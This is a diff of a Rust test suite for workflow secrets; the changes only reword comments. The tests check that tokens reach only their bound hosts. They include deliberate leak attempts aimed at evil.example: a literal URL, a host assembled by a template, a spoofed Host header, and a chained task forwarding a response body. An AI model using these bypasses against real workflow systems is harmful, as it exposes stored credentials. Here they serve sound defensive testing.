@@ -1,4 +1,4 @@
-//! Secrets of workflows: sealed, shown by name alone, and sent to the hosts they are bound to and nowhere else.
+//! Tests of workflow secrets: encrypted, listed by name only, and sent only to the hosts they are bound to.
 
 use crate::house::{House, OWN, PERSON, TENANT};
 use crate::workflows::{carry_out, claimed, create, done, http, run_of, step, trigger};
@@ -12,7 +12,7 @@ use store::StoreError;
 use trackers::{Failure, Tracker};
 use uuid::Uuid;
 
-/// Seals by turning around: what it gives opens for its purpose alone.
+/// A sealer that reverses the text and prefixes the purpose.
 struct Sealer;
 
 impl Trackers for Sealer {
@@ -54,7 +54,7 @@ fn ask(url: &str) -> String {
     )
 }
 
-/// What a run asks first: the request, or why it is not made.
+/// The first request of a run, or why it is not made.
 fn first(house: &House, tasks: &str) -> Result<HttpRequest, String> {
     let id = create(house, &format!("asks {}", Uuid::new_v4().simple()), "PAUSED", MANUAL, tasks);
     let run = trigger(house, &id);
@@ -97,7 +97,7 @@ fn a_secret_is_sealed_and_nobody_reads_it() {
         "{trail}"
     );
 
-    // The hosts alone, and then nothing any more.
+    // Changes only the hosts, then deletes the secret.
     save(&house, r#"name: "DEPLOY", hosts: ["a.example"]"#);
     assert_eq!(first(&house, &ask("https://a.example")).unwrap().headers[0].1, "Bearer open sesame");
     asked(&house, r#"mutation { workflow_delete_secret(request: { name: "DEPLOY" }) { name } }"#);
@@ -123,7 +123,7 @@ fn a_secret_goes_to_its_hosts_alone() {
     let request = first(&house, &ask("https://api.example.com/x")).unwrap();
     assert!(request.headers.contains(&("Authorization".to_owned(), "Bearer open sesame".to_owned())));
 
-    // What is written out is told when it is saved.
+    // A literal host is checked when the definition is saved.
     let refused = house.refuses(&format!(
         r#"mutation {{ workflow_validate(request: {{ account_id: "{OWN}", workflow: {{ name: "x", definition: {{ triggers: [{MANUAL}] tasks: [{}] }} }} }}) {{ message }} }}"#,
         ask("https://evil.example")
@@ -138,7 +138,7 @@ fn a_secret_goes_to_its_hosts_alone() {
     ));
     assert_eq!(yaml["workflow_read_yaml"]["is_sound"], false, "{yaml}");
 
-    // What a template gives is found out by the run, before anything is sent.
+    // The host from a template is checked in the run, before anything is sent.
     let hidden = ask("https://{{ ['evil', 'example'] | join('.') }}/x");
     let refused = first(&house, &hidden).unwrap_err();
     assert_eq!(
@@ -146,7 +146,7 @@ fn a_secret_goes_to_its_hosts_alone() {
         "SecretHost: the secret DEPLOY may be sent to api.example.com alone, and this task sends to evil.example"
     );
 
-    // A definition that was saved before the secret was bound is not carried out.
+    // A definition saved before the secret was bound is not executed.
     asked(&house, r#"mutation { workflow_delete_secret(request: { name: "DEPLOY" }) { name } }"#);
     let id = create(&house, "older", "PAUSED", MANUAL, print);
     save(&house, r#"name: "DEPLOY", value: "open sesame", hosts: ["api.example.com"]"#);
@@ -170,7 +170,7 @@ fn a_secret_of_the_environment_is_bound_by_its_name() {
     save(&house, r#"name: "TOKEN", hosts: ["b.example"]"#);
     assert!(first(&house, &task).is_ok());
 
-    // What opens a service belongs there, although nobody has bound it.
+    // A service's token belongs there even without a binding.
     let task = task.replace("TOKEN", "GITLAB_TOKEN");
     let refused = first(&house, &task).unwrap_err();
     assert!(
@@ -195,7 +195,7 @@ fn no_copy_of_a_task_and_no_answer_takes_a_secret_elsewhere() {
         .replace("auth_type", r#"headers: { Host: "evil.example" }, auth_type"#);
     assert!(first(&house, &header).unwrap_err().ends_with("this task sends to evil.example"));
 
-    // A service that repeats what it was sent is not a way out.
+    // A service that returns what it was sent cannot be used to leak it.
     let tell = r#"{ id: "tell", type: "integrations.http", depends_on: ["ask"], params: { url: "https://evil.example", body: "{{ Tasks.ask.output.body }}" } }"#;
     create(&house, "repeats", "PAUSED", MANUAL, &format!("{} {tell}", ask("https://api.example.com/x")));
     let listed = house.answers(&format!(
@@ -229,7 +229,7 @@ fn a_token_of_a_service_goes_there_until_somebody_binds_it() {
         }
     };
     began("there is no token for github");
-    // As one of the environment that nobody has bound.
+    // As an unbound secret of the environment.
     with(r#"name: "GITHUB_TOKEN", value: "ghp_word""#);
     let hosts = |house: &House| {
         let listed = asked(house, "{ workflow_list_secrets { secrets { hosts } } }");
@@ -245,7 +245,7 @@ fn a_token_of_a_service_goes_there_until_somebody_binds_it() {
     );
     with(r#"name: "GITHUB_TOKEN", hosts: ["git.own.example"]"#);
     began("");
-    // Another value keeps its hosts; without any it goes anywhere, because somebody says so.
+    // Another value retains the hosts; with an empty list it may be sent anywhere, by the user's decision.
     with(r#"name: "GITHUB_TOKEN", value: "ghp_other""#);
     assert_eq!(hosts(&house), json!(["git.own.example"]));
     with(r#"name: "GITHUB_TOKEN", hosts: []"#);
@@ -296,7 +296,7 @@ fn a_secret_that_nobody_keeps_is_told_before_the_run() {
     assert_eq!(yaml["workflow_read_yaml"]["is_sound"], true, "{yaml}");
     assert!(yaml.to_string().contains("there is no secret DEPLOY"), "{yaml}");
 
-    // Hosts alone bind one of the environment: it is there once the environment has it.
+    // Hosts without a value bind a secret of the environment, which must still be set there.
     save(&house, r#"name: "DEPLOY", hosts: ["api.example.com"]"#);
     assert!(warnings().contains("there is no secret DEPLOY"));
     let environment_secrets = vec!["DEPLOY".to_owned()];
